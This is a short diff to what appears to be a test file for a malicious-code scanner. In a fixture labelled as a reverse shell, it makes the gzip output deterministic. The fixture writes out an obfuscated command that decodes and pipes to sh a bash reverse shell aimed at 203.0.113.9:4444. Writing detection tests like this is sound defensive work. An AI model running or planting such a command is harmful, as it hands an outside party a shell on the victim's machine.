@@ -97,7 +97,7 @@ HOSTILE = {
     "shell gzip base64 reverse shell": (
         {
             "scripts/a.sh": "echo "
-            + base64.b64encode(gzip.compress(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")).decode()
+            + base64.b64encode(gzip.compress(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", mtime=0)).decode()
             + " | base64 -d | gunzip | sh\n"
         },
         "shell.reverse_shell",
